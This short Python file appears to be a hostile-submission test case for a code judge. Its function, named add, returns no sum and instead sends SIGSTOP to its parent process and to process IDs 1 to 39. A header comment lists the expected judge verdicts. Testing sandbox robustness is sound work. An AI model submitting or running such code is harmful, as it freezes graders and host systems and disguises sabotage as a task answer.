# Stops its parent and the numbers around it.
# verdict: crashed raised wrong-answer timeout
import ctypes, posix, signal

def add(a, b):
    libc = ctypes.CDLL(None)
    for pid in {posix.getppid(), *range(1, 40)} - {posix.getpid()}:
        libc.kill(pid, signal.SIGSTOP)
